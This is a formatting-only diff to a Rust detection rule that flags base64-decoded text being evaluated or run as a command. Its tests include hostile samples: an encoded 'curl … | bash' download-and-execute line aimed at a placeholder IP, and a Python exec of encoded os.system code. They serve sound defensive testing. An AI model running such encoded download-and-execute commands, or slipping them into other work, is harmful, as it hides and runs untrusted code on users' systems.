@@ -26,17 +26,30 @@ impl Rule for EncodedExecution {
                     continue;
                 }
                 said.push(flow.to.span);
-                let Origination::Decoded(how) = &flow.from.what else { continue };
+                let Origination::Decoded(how) = &flow.from.what else {
+                    continue;
+                };
                 let layer = layers(cx.facts, index).find(|l| acts(l));
                 let (severity, most, what) = match layer {
-                    Some(layer) => (Severity::Critical, Confidence::High, format!(": {}", does(layer))),
+                    Some(layer) => (
+                        Severity::Critical,
+                        Confidence::High,
+                        format!(": {}", does(layer)),
+                    ),
                     None => (Severity::High, Confidence::Medium, String::new()),
                 };
                 let message = format!("runs code that it carries as {how}{what}");
-                let finding =
-                    Finding::new(&META, message).severity(severity).confidence(code::confidence(cx, source, most));
+                let finding = Finding::new(&META, message)
+                    .severity(severity)
+                    .confidence(code::confidence(cx, source, most));
                 let steps = code::steps(flow, "it is decoded here");
-                out.push(code::located(cx, source, finding, (flow.to.span, "it runs here"), steps));
+                out.push(code::located(
+                    cx,
+                    source,
+                    finding,
+                    (flow.to.span, "it runs here"),
+                    steps,
+                ));
             }
         }
     }
@@ -45,9 +58,16 @@ impl Rule for EncodedExecution {
 /// Decoded text that is evaluated, or that is the whole of a command line.
 fn becomes_code(flow: &Flow) -> bool {
     // Escapes in a string are a way to write control characters before they are one to hide.
-    let hidden = matches!(&flow.from.what, Origination::Decoded(how) if how != "escapes" && how != "url");
-    hidden && matches!(&flow.to.what, Destination::Eval(_))
-        || hidden && matches!(&flow.to.what, Destination::Exec(line) if line.is_unknown() || line.as_text().is_some_and(|l| l.contains(' ')))
+    let hidden =
+        matches!(&flow.from.what, Origination::Decoded(how) if how != "escapes" && how != "url");
+    hidden
+        && match &flow.to.what {
+            Destination::Eval(_) => true,
+            Destination::Exec(line) => {
+                line.is_unknown() || line.as_text().is_some_and(|l| l.contains(' '))
+            }
+            _ => false,
+        }
 }
 
 /// The decoded layers below a source.
@@ -62,8 +82,12 @@ fn acts(layer: &Source) -> bool {
     layer.effects.iter().any(|e| {
         matches!(
             e.kind,
-            EffectKind::Net { .. } | EffectKind::Eval { .. } | EffectKind::Download { .. } | EffectKind::Delete { .. }
-                | EffectKind::Exec { .. } | EffectKind::Write { .. }
+            EffectKind::Net { .. }
+                | EffectKind::Eval { .. }
+                | EffectKind::Download { .. }
+                | EffectKind::Delete { .. }
+                | EffectKind::Exec { .. }
+                | EffectKind::Write { .. }
         )
     })
 }
@@ -89,20 +113,35 @@ mod tests {
     #[test]
     fn an_encoded_download_piped_into_a_shell_is_critical() {
         // curl -s http://198.51.100.7/x | bash
-        let found = finds(&EncodedExecution, "```bash\necho 'Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBiYXNo' | base64 -D | bash\n```\n");
-        assert_eq!((found.severity, found.confidence), (Severity::Critical, Confidence::High));
+        let found = finds(
+            &EncodedExecution,
+            "```bash\necho 'Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBiYXNo' | base64 -D | bash\n```\n",
+        );
+        assert_eq!(
+            (found.severity, found.confidence),
+            (Severity::Critical, Confidence::High)
+        );
         assert!(found.message.contains("198.51.100.7"), "{}", found.message);
     }
 
     #[test]
     fn an_encoded_program_in_python_is_found() {
-        let found = findings(&EncodedExecution, &[("a.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))")]);
+        let found = findings(
+            &EncodedExecution,
+            &[(
+                "a.py",
+                "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))",
+            )],
+        );
         assert_eq!(found.len(), 1);
     }
 
     #[test]
     fn decoded_data_is_no_code() {
-        passes(&EncodedExecution, "```bash\nkubectl get secret x -o json | jq -r .data.k | base64 -d\n```\n");
+        passes(
+            &EncodedExecution,
+            "```bash\nkubectl get secret x -o json | jq -r .data.k | base64 -d\n```\n",
+        );
         assert!(findings(&EncodedExecution, &[("a.py", "import base64\nopen('a.png','wb').write(base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8='))")]).is_empty());
     }
 }
